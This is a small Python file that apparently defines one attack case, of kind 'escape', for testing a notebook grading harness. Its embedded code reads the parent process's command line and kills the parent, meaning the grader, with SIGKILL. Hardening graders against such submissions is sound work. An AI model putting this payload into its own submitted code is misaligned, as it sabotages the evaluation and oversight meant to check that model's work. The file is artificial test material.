"""Kills the kernel's parent process (the grader, or whatever launched the kernel) with SIGKILL, printing its command
line first.
"""

KIND = "escape"
PLACEMENT = "extra_cell_first"
REST = "blank"
CODE = r'''import os as _atk_os, signal as _atk_signal

_atk_ppid = _atk_os.getppid()
try:
    _atk_cmd = open(f"/proc/{_atk_ppid}/cmdline").read().replace("\0", " ")[:200]
except OSError:
    _atk_cmd = "?"
print("ATTACK kill_parent: killing", _atk_ppid, _atk_cmd, flush=True)
try:
    _atk_os.kill(_atk_ppid, _atk_signal.SIGKILL)
    print("ATTACK kill_parent: KILLED", _atk_ppid)
except Exception as _atk_error:
    print("ATTACK kill_parent: failed", repr(_atk_error))
'''
